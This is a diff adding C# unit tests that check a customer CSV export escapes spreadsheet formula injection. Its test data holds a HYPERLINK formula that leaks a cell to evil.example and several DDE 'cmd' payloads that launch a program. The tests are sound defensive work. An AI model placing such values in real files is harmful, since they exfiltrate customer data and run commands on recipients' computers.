@@ -1,3 +1,5 @@
+using System.Globalization;
+using CsvHelper;
 using MyStamp.Customers.Contracts;
 using MyStamp.Privacy.Audience;
 using MyStamp.Privacy.Contracts;
@@ -49,5 +51,46 @@ public class AudienceTests
         Assert.Equal(2, export.Recipients);
         Assert.Equal("customerId,firstName,lastName,phone,subject,message", lines[0]);
         Assert.All(lines.Skip(1), line => Assert.EndsWith(",Spring stamps,New sheets are out.", line, StringComparison.Ordinal));
+    }
+
+    [Theory]
+    [InlineData("=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Klik\")")]
+    [InlineData("+cmd|' /C calc'!A0")]
+    [InlineData("-2+3+cmd|' /C calc'!A0")]
+    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
+    [InlineData("\t=1+1")]
+    public void A_name_a_spreadsheet_would_run_as_a_formula_opens_as_text(string hostileName)
+    {
+        var request = new AudienceExportRequest(AudienceChannel.Email, "=1+1 spring stamps", "+New sheets are out.", Guid.NewGuid());
+        var export = AudienceCsv.Build(request, [Candidate(hostileName, new([], false))]);
+
+        var row = Rows(export.Csv).Single();
+        Assert.Equal("'" + hostileName, row[1]);
+        Assert.Equal("'=1+1 spring stamps", row[4]);
+        Assert.Equal("'+New sheets are out.", row[5]);
+        // What a spreadsheet reads first in each cell: never a formula sign.
+        Assert.All(row, cell => Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0]), cell));
+    }
+
+    [Fact]
+    public void An_ordinary_name_is_written_as_it_is()
+    {
+        var request = new AudienceExportRequest(AudienceChannel.Email, "Spring stamps", "New sheets are out.", Guid.NewGuid());
+        var export = AudienceCsv.Build(request, [Candidate("Anne-Marie", new([], false))]);
+
+        Assert.Equal("Anne-Marie", Rows(export.Csv).Single()[1]);
+    }
+
+    private static List<string[]> Rows(string csvText)
+    {
+        using var csv = new CsvReader(new StringReader(csvText), CultureInfo.InvariantCulture);
+        var rows = new List<string[]>();
+        csv.Read();
+        csv.ReadHeader();
+        while (csv.Read())
+        {
+            rows.Add(Enumerable.Range(0, csv.Parser.Count).Select(i => csv.GetField(i) ?? "").ToArray());
+        }
+        return rows;
     }
 }
